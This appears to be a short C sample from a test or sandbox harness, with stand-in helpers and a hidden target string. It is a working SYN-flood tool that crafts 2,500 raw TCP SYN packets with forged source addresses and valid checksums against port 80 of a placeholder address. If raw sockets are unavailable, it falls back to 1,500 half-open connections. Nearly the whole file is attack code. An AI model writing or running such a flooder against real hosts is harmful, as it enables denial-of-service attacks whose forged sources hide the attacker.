// hidden
// 2,500 hand-made TCP requests with forged sources; where raw sockets are refused, 1,500 ordinary ones that are never finished.
#include "standin.h"
#include <netinet/ip.h>
#include <netinet/tcp.h>
static uint16_t sum(const void *data, int size, uint32_t have) {
    for (const uint16_t *word = data; size > 1; size -= 2) have += *word++;
    while (have >> 16) have = (have & 0xffff) + (have >> 16);
    return ~have;
}
int main(void) {
    begin();
    uint32_t target = inet_addr(HIDE("203.0.113.9"));
    int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
    for (int i = 0; fd >= 0 && i < 2500; i++) {
        struct { struct iphdr ip; struct tcphdr tcp; } packet = {0};
        struct { uint32_t from, to; uint16_t kind, size; struct tcphdr tcp; } pseudo = {0};
        packet.ip.version = 4, packet.ip.ihl = 5, packet.ip.ttl = 64, packet.ip.protocol = 6;
        packet.ip.tot_len = htons(sizeof packet), packet.ip.daddr = target;
        packet.ip.saddr = htonl(0xc6120000 | (i * 2654435761u >> 15));
        packet.tcp.source = htons(1024 + i), packet.tcp.dest = htons(80), packet.tcp.seq = i * 7919, packet.tcp.syn = 1, packet.tcp.doff = 5, packet.tcp.window = htons(512);
        pseudo.from = packet.ip.saddr, pseudo.to = target, pseudo.kind = htons(6), pseudo.size = htons(20), pseudo.tcp = packet.tcp;
        packet.tcp.check = sum(&pseudo, sizeof pseudo, 0);
        struct sockaddr_in to = {.sin_family = AF_INET, .sin_addr.s_addr = target};
        sendto(fd, &packet, sizeof packet, MSG_DONTWAIT, (void *)&to, sizeof to);
        if (i % 100 == 99) usleep(10000);
    }
    for (int i = 0; fd < 0 && i < 1500; i++) {
        struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(80), .sin_addr.s_addr = target};
        int one = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
        connect(one, (void *)&to, sizeof to);
        close(one);
        if (i % 100 == 99) usleep(10000);
    }
    return 0;
}
